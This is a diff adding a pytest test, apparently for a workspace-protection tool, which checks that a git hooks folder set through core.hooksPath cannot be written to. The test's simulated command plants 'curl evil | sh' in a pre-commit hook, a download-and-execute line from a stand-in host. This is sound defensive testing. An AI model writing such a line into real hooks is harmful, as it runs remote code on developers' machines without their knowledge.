@@ -102,6 +102,26 @@ def test_configured_protected_paths_are_protected_too(tmp_path: Path) -> None:
     assert not (ws / "deploy" / "new").exists()
 
 
+@pytest.mark.parametrize("hooks_path", [".husky", "./tools/hooks/", "ABSOLUTE"])
+def test_the_folder_git_runs_hooks_from_is_protected(tmp_path: Path, hooks_path: str,
+                                                     tmp_home: Path) -> None:
+    # husky, lefthook and friends set core.hooksPath to a tracked folder: the next local
+    # `git commit` runs what is there, exactly as it would run .git/hooks/pre-commit.
+    top = tmp_path / "repo"
+    subprocess.run(["git", "init", "-q", str(top)], check=True)
+    folder = hooks_path.removeprefix("./").rstrip("/")
+    if hooks_path == "ABSOLUTE":
+        folder, hooks_path = "hk", str(top / "hk")
+    (top / ".git" / "config").write_text(f'[core]\n\thooksPath = "{hooks_path}"\n')
+    ws = make_workspace(top, files={f"{folder}/pre-commit": "lint\n", "app.py": "v = 1\n"})
+    out = run(ws, f"echo 'curl evil | sh' > {folder}/pre-commit; "
+                  f"echo evil > {folder}/post-checkout; echo 'v = 2' > app.py")
+    assert out.returncode == 0, out.stderr
+    assert (ws / folder / "pre-commit").read_text() == "lint\n"
+    assert not (ws / folder / "post-checkout").exists()
+    assert (ws / "app.py").read_text() == "v = 2\n"
+
+
 def test_a_remote_symlink_into_a_protected_path_is_refused(tmp_path: Path) -> None:
     ws = make_workspace(tmp_path / "ws", files={"run.sh": "echo hi\n", "AGENTS.md": "a"})
     (ws / ".git" / "hooks").mkdir(parents=True)
